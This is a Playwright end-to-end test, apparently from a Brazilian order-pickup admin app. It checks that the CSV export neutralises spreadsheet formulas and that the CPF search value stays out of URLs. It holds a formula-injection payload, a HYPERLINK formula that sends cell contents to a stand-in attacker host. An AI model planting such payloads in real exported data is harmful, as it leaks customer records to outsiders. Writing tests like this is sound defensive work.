import { readFile } from "node:fs/promises";
import { completeCpf, formatCpf } from "@passo/domain";
import type { APIRequestContext, Request } from "@playwright/test";
import { createStore, expect, test } from "./support/fixtures";
import { createPickupThroughApi } from "./support/pickups";

const FORMULA = '=HYPERLINK("http://atacante.example/?"&A1;"Clique")';

/** A valid CPF no other test uses. */
const newCpf = () => completeCpf(`${1 + Math.floor(Math.random() * 9)}${String(Math.floor(Math.random() * 1e8)).padStart(8, "0")}`);
const newOrderNumber = () => `${Date.now()}`.slice(-13).padStart(16, "8");

async function pickupOf(request: APIRequestContext, store: string, customerFullName: string, customerCPF: string, orderNumber: string) {
  await createPickupThroughApi(request, {
    pickupStoreName: store,
    orderNumber,
    trackingCode: "TR7788",
    customerFullName,
    customerCPF,
    customerPhone: "(41) 95555-4444",
    customerEmail: "formula@email.com",
    orderItems: ["@SUM(1+1)", "TENIS 42"],
  });
}

test("a pickup whose customer's name is a formula, searched by CPF and downloaded as CSV, opens as text; the CPF never travels in a URL", async ({ admin, request }) => {
  const store = await createStore(request);
  const cpf = newCpf();
  const orderNumber = newOrderNumber();
  await pickupOf(request, store.username, FORMULA, cpf, orderNumber);

  const requests: Request[] = [];
  admin.on("request", (r) => {
    if (new URL(r.url()).pathname.startsWith("/api/")) requests.push(r);
  });
  await admin.goto("/pickup-history");
  await expect(admin.getByRole("heading", { level: 1 })).toBeVisible();
  await admin.getByRole("searchbox", { name: "Pesquisa" }).fill(formatCpf(cpf));
  await admin.getByRole("button", { name: "Filtrar" }).click();
  await expect(admin.getByRole("row").filter({ hasText: orderNumber })).toContainText(FORMULA);

  const download = admin.waitForEvent("download");
  await admin.getByRole("button", { name: "Exportar CSV" }).click();
  const file = await download;
  const text = await readFile((await file.path())!, "utf8");
  const rows = text.replace(/^\uFEFF/, "").split("\r\n").slice(1, -1);
  expect(rows).toHaveLength(1);
  const cells = rows[0]!.split(";");
  // The name is quoted (it holds ';'): its first character inside the quotes is the neutralising '.
  expect(rows[0]).toContain(`;"'=HYPERLINK(""http://atacante.example/?""&A1;""Clique"")";${formatCpf(cpf)};`);
  expect(cells[0]).toBe(orderNumber);
  expect(rows[0]).toContain(";'@SUM(1+1) | TENIS 42;");

  // The search went in the X-Search header, never in an address.
  const searched = requests.filter((r) => r.headers()["x-search"] !== undefined);
  expect(searched.map((r) => new URL(r.url()).pathname)).toEqual(expect.arrayContaining(["/api/pickup/get", "/api/pickup/export"]));
  for (const r of searched) expect(decodeURIComponent(r.headers()["x-search"]!)).toBe(formatCpf(cpf));
  for (const r of requests) expect(r.url()).not.toMatch(new RegExp(`${cpf}|${cpf.slice(0, 3)}\\.${cpf.slice(3, 6)}|search=`));
});
